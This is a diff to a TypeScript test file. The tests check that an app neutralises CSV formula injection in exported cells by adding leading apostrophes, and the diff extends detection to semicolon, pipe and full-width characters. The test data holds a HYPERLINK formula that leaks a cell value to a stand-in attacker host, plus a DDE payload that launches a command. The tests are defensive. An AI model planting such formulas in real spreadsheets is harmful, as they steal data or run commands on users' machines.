@@ -100,10 +100,16 @@ async function refused(name: string, send: () => Promise<Response>, expected: { 
   return res;
 }
 
-/** Cells a spreadsheet would run as a formula: text starting with = + - @ (a number like -2.5 is data). */
+/**
+ * Cells a spreadsheet would run as a formula: text starting with = + - @ tab CR (OWASP, "CSV
+ * Injection"), ; | or the full-width ＝ ＋ － ＠ ； ｜ (common practice, no source); a number like
+ * -2.5 is data. The file is also read with ";" as the separator, as a spreadsheet in a locale whose
+ * list separator is ";" would read it.
+ */
 function formulaCells(csv: string): string[] {
-  const rows = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
-  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell));
+  const risky = (cell: string) => /^[=+\-@\t\r;|\uFF1D\uFF0B\uFF0D\uFF20\uFF1B\uFF5C]/.test(cell) && !/^[-+]?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(cell);
+  const cells = [",", ";"].flatMap((delimiter) => Papa.parse<string[]>(csv.trim(), { delimiter, skipEmptyLines: true }).data.flat());
+  return cells.filter(risky);
 }
 
 /** For files with a name and a higher taxon only. */
@@ -317,7 +323,7 @@ describe("text that is hostile only when run is stored verbatim and stays inert"
       const commit = await commitOf("formula-cells.csv");
       const res = await commit();
       expect(res.status, JSON.stringify(res.body)).toBe(200);
-      expect(res.body.createdCount).toBe(5);
+      expect(res.body.createdCount).toBe(9);
       const hyperlink = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open")';
       const found = await cast.people.viewer.agent.get(`/api/studies/${study.studyId}/taxa`).query({ filter: "name:contains:HYPERLINK" });
       expect(found.body.rows.map((r: { name: string }) => r.name)).toEqual([hyperlink]);
@@ -329,7 +335,19 @@ describe("text that is hostile only when run is stored verbatim and stays inert"
       expect(formulaCells(text)).toEqual([]);
       const cells = Papa.parse<string[]>(text.trim()).data.flat();
       // A leading apostrophe keeps the text as text (OWASP, "CSV Injection").
-      for (const cell of [`'${hyperlink}`, "'+Formulella plus (invented)", "'-Formulella minus (invented)", "'@SUM(Formulella) (invented)", "'=cmd|' /C calc'!A0", "'=1+2"]) {
+      for (const cell of [
+        `'${hyperlink}`,
+        "'+Formulella plus (invented)",
+        "'-Formulella minus (invented)",
+        "'@SUM(Formulella) (invented)",
+        "'=cmd|' /C calc'!A0",
+        "'=1+2",
+        "';=1+1 Formulella semicolon (invented)",
+        "'|Formulella pipe (invented)",
+        "'\uFF1D1+1 Formulella full-width (invented)",
+        "'\uFF0BInvented clade C",
+        "Formulella;=1+1 mid-cell (invented)",
+      ]) {
         expect(cells).toContain(cell);
       }
     });
